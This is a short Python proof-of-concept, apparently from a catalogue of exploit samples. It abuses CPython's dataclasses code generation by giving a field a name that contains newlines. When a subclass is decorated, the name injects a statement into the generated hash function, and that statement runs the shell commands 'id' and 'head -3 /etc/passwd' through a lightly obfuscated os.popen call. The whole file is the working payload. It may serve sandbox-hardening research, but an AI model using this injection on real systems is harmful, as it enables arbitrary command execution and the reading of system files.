# source: CPython Lib/dataclasses.py _hash_fn/_create_fn: exec of text built from f.name (newline injects statements)
# family: dataclasses codegen: Field.name with newlines injects statements into __create_fn__, run at decoration time
# goal: runs id and head /etc/passwd while the subclass is being defined
import dataclasses


@dataclasses.dataclass
class Bar:
    close: float = 0.0


u = "_" * 2
nl = chr(10)
stmt = "print(" + u + "import" + u + "('o' 's').popen('id; head -3 /etc/passwd').read())"
new_name = "close,))" + nl + " " + stmt + nl + " def _z(self):" + nl + "  return ((self.close"
dataclasses.fields(Bar)[0].name = new_name


# the payload runs while this class statement is decorated, no call needed
@dataclasses.dataclass(init=False, repr=False, eq=False, unsafe_hash=True)
class AdjustedBar(Bar):
    pass
